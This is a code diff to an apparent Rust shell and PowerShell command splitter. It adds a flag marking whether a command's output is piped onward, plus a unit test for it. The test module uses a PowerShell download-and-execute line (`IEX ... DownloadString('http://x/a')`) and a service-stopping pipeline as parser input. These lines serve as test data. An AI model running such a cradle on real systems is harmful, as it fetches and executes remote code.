@@ -37,6 +37,9 @@ pub struct Command {
     pub tokens: Vec<Token>,
     /// The whole command as written.
     pub text: Mapped,
+    /// Its output goes through `|` to the next command of the same pipeline (the next
+    /// command in the list).
+    pub piped: bool,
 }
 
 impl Command {
@@ -71,11 +74,12 @@ fn commands_into(script: &Mapped, depth: usize, out: &mut Vec<Command>) {
     let mut cmd_start = 0;
     let mut inner: Vec<Mapped> = Vec::new();
     let end_command =
-        |tokens: &mut Vec<Token>, start: usize, end: usize, out: &mut Vec<Command>| {
+        |tokens: &mut Vec<Token>, start: usize, end: usize, piped: bool, out: &mut Vec<Command>| {
             if !tokens.is_empty() {
                 out.push(Command {
                     tokens: std::mem::take(tokens),
                     text: script.slice(start, end).trim(),
+                    piped,
                 });
             }
         };
@@ -90,17 +94,17 @@ fn commands_into(script: &Mapped, depth: usize, out: &mut Vec<Command>) {
                 i += 2
             }
             '\n' | ';' => {
-                end_command(&mut tokens, cmd_start, at(i), out);
+                end_command(&mut tokens, cmd_start, at(i), false, out);
                 i += 1;
                 cmd_start = at(i);
             }
             '|' | '&' if chars.get(i + 1).is_some_and(|&(_, n)| n == c) => {
-                end_command(&mut tokens, cmd_start, at(i), out);
+                end_command(&mut tokens, cmd_start, at(i), false, out);
                 i += 2;
                 cmd_start = at(i);
             }
             '|' => {
-                end_command(&mut tokens, cmd_start, at(i), out);
+                end_command(&mut tokens, cmd_start, at(i), true, out);
                 i += 1;
                 cmd_start = at(i);
             }
@@ -132,7 +136,7 @@ fn commands_into(script: &Mapped, depth: usize, out: &mut Vec<Command>) {
             }
         }
     }
-    end_command(&mut tokens, cmd_start, len, out);
+    end_command(&mut tokens, cmd_start, len, false, out);
     if depth < MAX_DEPTH {
         for g in inner {
             commands_into(&g, depth + 1, out);
@@ -299,6 +303,15 @@ mod tests {
             names("IEX (New-Object Net.WebClient).DownloadString('http://x/a')"),
             ["IEX", "New-Object"]
         );
+    }
+
+    #[test]
+    fn a_command_knows_when_its_output_is_piped_on() {
+        let piped: Vec<bool> = commands(&Mapped::new("gsv x | spsv -Force; whoami || a", 0))
+            .iter()
+            .map(|c| c.piped)
+            .collect();
+        assert_eq!(piped, [true, false, false, false]);
     }
 
     #[test]
